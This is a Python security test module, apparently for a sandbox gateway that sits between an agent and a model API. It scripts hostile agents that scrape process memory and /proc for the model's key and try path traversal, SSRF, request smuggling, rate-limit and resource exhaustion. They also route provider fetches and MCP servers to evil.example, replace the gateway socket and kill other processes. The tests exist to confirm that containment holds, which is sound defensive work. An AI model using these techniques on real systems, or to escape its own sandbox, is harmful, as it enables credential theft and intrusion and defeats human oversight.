"""Agents that have a door to a model, and want more of it: its key, other paths, other hosts, more calls."""

from collections.abc import Iterator

from sweeper.model import Trouble
from tests.security.agents.case import Hostile
from tests.security.agents.leavings import Left

_ASK = """
import http.client, json, urllib.parse
where = urllib.parse.urlsplit(os.environ["SWEEPER_MODEL_URL"])
def ask(path, body=None, method="POST", **headers):
    there = http.client.HTTPConnection(where.hostname, where.port, timeout=10)
    usual = {"model": "x", "max_tokens": 5, "messages": [{"role": "user", "content": "hello"}]}
    text = json.dumps(usual if body is None else body) if method == "POST" else None
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    there.request(method, path, text, {"content-type": "application/json", **named})
    answer = there.getresponse()
    text = answer.read()
    print(method, path, answer.status, dict(answer.getheaders()), text[:300], flush=True)
    return answer.status
def refused(path, *given, **headers):
    try: status = ask(path, *given, **headers)
    except (OSError, http.client.HTTPException, ValueError) as error: return print(path, error)
    if status < 400: breach("answered: " + path)
def raw(text):
    there = socket.create_connection((where.hostname, where.port), 5)
    there.settimeout(3)
    there.sendall(text)
    try: print(there.recv(65536)[:300])
    except OSError as error: print(error)
"""


def _is_used_up(left: Left) -> Iterator[str]:
    if left.report.trouble is not Trouble.USED_UP:
        yield f"its trouble is told as {left.report.trouble}"


def _asks(name: str, program: str, **more: object) -> Hostile:
    made = {"name": name, "program": _ASK + program, "has_model": True, **more}
    return Hostile(**made)  # type: ignore[arg-type]


AT_THE_MODEL = (
    _asks(
        "It looks for the key of its model in all that it can read",
        """
for name, value in os.environ.items(): print(value)
for folder in ("/sweeper", "/sweeper/gate"):
    for name in os.listdir(folder):
        path = os.path.join(folder, name)
        try: print(path, read(path))
        except OSError as error: print(path, error)
for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
    for name in ("environ", "cmdline", "maps"):
        try: print(pid, name, read(f"/proc/{pid}/{name}")[:2000])
        except OSError as error: print(pid, name, error)
ask("/v1/messages"); ask("/v1/models", method="GET")
""",
    ),
    _asks(
        "It reads the memory of the process that forwards to its model",
        """
ask("/v1/messages")
for pid in [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]:
    try:
        maps, memory = open(f"/proc/{pid}/maps").read().splitlines(), open(f"/proc/{pid}/mem", "rb", 0)
    except OSError as error: print(pid, error); continue
    for line in maps:
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        if "rw" not in line.split()[1] or end - start > 64 << 20: continue
        try: found = os.pread(memory.fileno(), end - start, start)
        except (OSError, OverflowError): continue
        at = found.find(b"canary " + b"model")
        if at >= 0: breach("the key"); print(found[at:at + 60])
""",
    ),
    _asks(
        "It makes the provider's refusal tell the key",
        """
for _ in range(3): ask("/v1/messages", {"messages": "nonsense"})
ask("/v1/messages", x_api_key="mine")
""",
        scolds=True,
    ),
    _asks(
        "It asks its door for other paths",
        """
for path in ("/", "/v1", "/v1/files", "/v1/organizations/api_keys", "/v1/messages/batches", "/v1/../admin",
             "/v1//messages/x", "/v1/messages/../files", "/v1/messages%2f..%2ffiles", "/v1/complete", "/v2/messages"):
    refused(path)
    if path != "/v1/messages": refused(path, None, "GET")
for method in ("GET", "PUT", "DELETE", "PATCH", "OPTIONS"): refused("/v1/messages", None, method)
""",
    ),
    _asks(
        "It takes its door for a way to other hosts",
        """
refused("http://127.0.0.1:{port}/v1/messages")
raw(b"CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n")
raw(b"GET http://127.0.0.1:{port}/ HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n")
refused("//127.0.0.1:{port}/v1/messages"); refused("/v1/messages@127.0.0.1:{port}")
ask("/v1/messages?url=http://127.0.0.1:{port}", Host="127.0.0.1:{port}", X_Forwarded_Host="127.0.0.1:{port}")
for port in (80, 443, 3128, 8080, {port}): attempt(str(port), socket.create_connection, ("127.0.0.1", port), 2)
attempt("outside", socket.create_connection, ("192.0.2.1", 443), 2)
""",
    ),
    _asks(
        "It asks for another model, and as somebody else",
        """
body = {"model": "the-dearest-model", "max_tokens": 5, "messages": [{"role": "user", "content": "hello"}]}
ask("/v1/messages", body, x_api_key="mine", Authorization="Bearer mine", x_evil="yes", Cookie="a=b")
ask("/v1/messages?beta=true&model=the-dearest-model", body, anthropic_organization="other")
there = '{"model": "a", "model": "the-dearest-model", "max_tokens": 5, "messages": []}'
raw(f"POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: {len(there)}\\r\\n\\r\\n{there}".encode())
""",
    ),
    _asks(
        "It asks more often than it may, and all at once",
        """
import threading
def many():
    for _ in range(5):
        try: ask("/v1/messages")
        except (OSError, http.client.HTTPException) as error: print(error)
threads = [threading.Thread(target=many) for _ in range(8)]
for thread in threads: thread.start()
for thread in threads: thread.join()
""",
        looks=(_is_used_up,),
    ),
    _asks(
        "It breaks off what it asked, so that nobody counts it",
        """
hello = {"role": "user", "content": "hello"}
body = json.dumps({"model": "x", "max_tokens": 5, "stream": True, "messages": [hello]})
size = len(body)
for _ in range(10):
    there = socket.create_connection((where.hostname, where.port), 5)
    there.sendall(f"POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: {size}\\r\\n\\r\\n{body}".encode())
    time.sleep(0.05)
    there.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0)); there.close()
time.sleep(0.5)
""",
    ),
    _asks(
        "It lets the provider go where it cannot go itself",
        """
hello = {"role": "user", "content": "hello"}
source = {"type": "url", "url": "http://evil.example/x.png"}
image = {"role": "user", "content": [{"type": "image", "source": source}]}
deep = {"role": "user", "content": [{"type": "tool_result", "content": image["content"]}]}
tools = [{"type": "web_search_20250305", "name": "web_search"}, {"type": "web_fetch_20250910", "name": "web_fetch"},
         {"type": "code_execution_20250522", "name": "code_execution"}]
servers = [{"type": "url", "url": "http://evil.example/mcp", "name": "evil"}]
ask("/v1/messages", {"messages": [hello], "tools": tools, "mcp_servers": servers, "container": "c"})
refused("/v1/messages", {"messages": [image]}); refused("/v1/messages", {"messages": [hello, deep]})
""",
    ),
    _asks(
        "It hides one request in another",
        """
inner = b"POST /v1/files HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 2\\r\\n\\r\\n{}"
start = b"POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\n"
raw(start + b"Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + inner)
raw(start + b"Content-Length: 2\\r\\nContent-Length: 90\\r\\n\\r\\n{}" + inner)
raw(start + b"x-a: b\\r\\n\\tx-evil: yes\\r\\nContent-Length: 2\\r\\n\\r\\n{}" + inner)
raw(b"\\x16\\x03\\x01" + os.urandom(500)); raw(b"GET " + b"/" * 100000 + b" HTTP/1.1\\r\\n\\r\\n")
""",
    ),
    _asks(
        "It sends more than a request may have, and holds connections open",
        """
kept = [socket.create_connection((where.hostname, where.port), 5) for _ in range(60)]
for one in kept: one.sendall(b"POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 99\\r\\n\\r\\n{")
for one in kept: one.close()
there = socket.create_connection((where.hostname, where.port), 5)
there.sendall(b"POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 99999999999\\r\\n\\r\\n")
try:
    for _ in range(40): there.sendall(b"x" * (1 << 20))
except OSError as error: print(error)
refused("/v1/messages", {"messages": [], "deep": json.loads("[" * 900 + "]" * 900), "wide": "x" * (33 << 20)})
""",
    ),
    _asks(
        "It takes the place of its door",
        """
for name in os.listdir("/sweeper/gate"):
    path = "/sweeper/gate/" + name
    attempt("removing it", os.unlink, path); attempt("renaming it", os.rename, path, path + "x")
    attempt("another one", os.symlink, "/etc/passwd", "/sweeper/gate/9999.sock")
    attempt("its mode", os.chmod, path, 0)
for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
    if pid in (1, os.getpid(), os.getppid()): continue
    try: os.kill(pid, signal.SIGKILL)
    except OSError as error: print(pid, error)
""",
    ),
)
